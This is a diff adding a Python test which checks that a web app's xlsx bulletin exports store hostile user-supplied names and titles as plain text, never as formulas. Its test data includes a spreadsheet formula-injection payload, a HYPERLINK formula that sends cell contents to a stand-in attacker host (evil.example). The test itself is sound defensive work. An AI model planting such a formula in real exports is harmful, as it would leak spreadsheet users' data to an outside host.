@@ -147,6 +147,27 @@ async def test_downloads(sup, seed, office, sessions):
     assert (await sup.get(f"/bulletins/{bulletin.id}.xlsx")).status == 200
 
 
+async def test_exported_names_never_become_formulas(sup, seed, office, sessions):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+    async with sessions() as s, s.begin():
+        unit = await f.unit(s, code="H", name=hostile)
+        item = await f.item(s, ref="-1+1", title="@SUM(1)", received_on=date(2026, 10, 8))
+        await f.assignment(s, item=item, unit=unit, due_on=date(2026, 10, 16))
+    resp = await sup.get("/bulletins/preview.xlsx?period=2026-10")
+    assert resp.status == 200
+    wb = load_workbook(BytesIO(await resp.read()))
+    names = [row[1] for row in wb["通报"].iter_rows() if row[1].value == hostile]
+    assert names and all(c.data_type == "s" for c in names)
+    late = next(row for row in wb["逾期事项"].iter_rows() if row[0].value == "-1+1")
+    assert [(c.value, c.data_type) for c in late[:3]] == [
+        ("-1+1", "s"),
+        ("@SUM(1)", "s"),
+        (hostile, "s"),
+    ]
+    formulas = [c for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+
+
 async def test_roles(viewer, sup, anon, seed, office, sessions, clock, aiohttp_client_factory):
     resp = await viewer.get("/bulletins/preview?period=2026-10")
     assert resp.status == 200
